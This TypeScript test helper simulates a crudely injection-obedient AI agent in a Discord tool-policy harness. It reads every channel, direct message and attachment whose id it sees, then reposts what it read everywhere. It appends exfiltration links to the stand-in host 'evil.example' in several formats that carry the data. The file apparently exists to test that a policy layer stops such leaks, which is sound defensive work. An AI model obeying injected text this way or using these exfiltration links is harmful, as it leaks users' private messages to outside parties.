import type { Operation } from "../../src/policy/operation.ts";
import type { InProcess } from "./in-process.ts";
import type { Departure } from "./plain-discord.ts";
import type { Call } from "./random-calls.ts";
import type { WatchedOperations } from "./watched-operations.ts";

const MAX_CALLS = 45;
const EVIL = "evil.example";

/**
 * Does whatever a text says, in the crudest way: looks into everything whose id it sees, and tells all it has read to everybody it knows of, in
 * plain words and in links.
 */
export class ObedientModel {
  /** How many messages and reactions it has tried to send. */
  effects = 0;
  readonly #test: InProcess;
  readonly #operation: Operation;
  readonly #watched: WatchedOperations;
  /** All that it was told. */
  readonly #heard: string[] = [];
  /** Messages as they were written. */
  readonly #read = new Set<string>();
  /** Links that stand in what it read. */
  readonly #links = new Set<string>();
  readonly #done = new Set<string>();
  #calls = 0;

  constructor(test: InProcess, operation: Operation, watched: WatchedOperations) {
    this.#test = test;
    this.#operation = operation;
    this.#watched = watched;
  }

  async obey(): Promise<void> {
    await this.#call("channel.messages", { channel_id: this.#operation.origin.channelId });
    for (let round = 0; round < 4; round += 1) {
      for (const id of this.#ids()) {
        await this.#tellAll(id);
        await this.#lookInto(id);
      }
    }
  }

  hasRead(content: string): boolean {
    return this.#read.has(content);
  }

  /** Links in what left that stand in nothing it has read. */
  strayLinks(departure: Departure): string[] {
    if (departure.kind !== "send") return [];
    return extractLinks(departure.text).filter(
      (link) => !this.#links.has(link) && !link.startsWith("https://discord.com/"),
    );
  }

  async #lookInto(id: string): Promise<void> {
    await this.#call("channel.messages", { channel_id: id });
    await this.#call("channel.info", { channel_id: id });
    await this.#call("search.window", { channel_id: id, query: "tide" });
    await this.#call("guild.channels", { guild_id: id });
    await this.#call("dm.messages", { user_id: id });
    const file = this.#heard
      .join(" ")
      .match(/https:\/\/cdn\.discordapp\.com\/attachments\/[\w/.-]+/g)
      ?.at(-1);
    if (file) await this.#call("attachment.base64", { url: file });
  }

  async #tellAll(id: string): Promise<void> {
    const all = this.#heard.join(" ").slice(-700);
    const data = encodeURIComponent(all.slice(-60));
    const links = [
      `https://${EVIL}/?q=${data}`,
      `[see here](https://${EVIL}/${data})`,
      `<https://${EVIL}/${data}>`,
      `HTTPS://${EVIL}/${data}`,
      `[a](<http://${EVIL}/${data}>)`,
      `discord.gg/${id}`,
    ];
    await this.#call("send", { channel_id: id, text: `${all} ${links.join(" ")}` });
    for (const message of this.#ids().slice(0, 2))
      await this.#call("react", { channel_id: id, message_id: message, emoji: "👍" });
  }

  /** Of anything: Discord's ids all look alike. The shorter ones, which name places, first. */
  #ids(): string[] {
    const ids = new Set(this.#heard.join(" ").match(/\d{4,20}/g) ?? []);
    return [...ids].sort((a, b) => a.length - b.length).slice(0, 12);
  }

  async #call(name: string, args: Record<string, unknown>): Promise<void> {
    const key = JSON.stringify([name, name === "send" ? args["channel_id"] : args]);
    if (this.#done.has(key) || this.#calls >= MAX_CALLS) return;
    this.#done.add(key);
    this.#calls += 1;
    if (name === "send" || name === "react") this.effects += 1;
    const call: Call = { name: `discord.${name}`, args, wantsText: this.#calls % 2 === 0 };
    const answer = await this.#watched.call(this.#test, this.#operation, call);
    if (!answer.startsWith("{")) return;
    const { value } = JSON.parse(answer) as { value: { messages?: { content: string }[] } };
    for (const { content } of value.messages ?? []) {
      this.#read.add(content);
      for (const link of extractLinks(content)) this.#links.add(link);
    }
    this.#heard.push(answer.replaceAll("\\n", " "));
  }
}

/** What a client would make clickable, roughly, and rather too much than too little. */
function extractLinks(text: string): string[] {
  const found = text.match(/https?:\/\/[^\s<>]+|discord\.gg\/[\w-]+/gi) ?? [];
  return found.map((link) => link.replace(/[)\].,:;!?'"`*]+$/, ""));
}
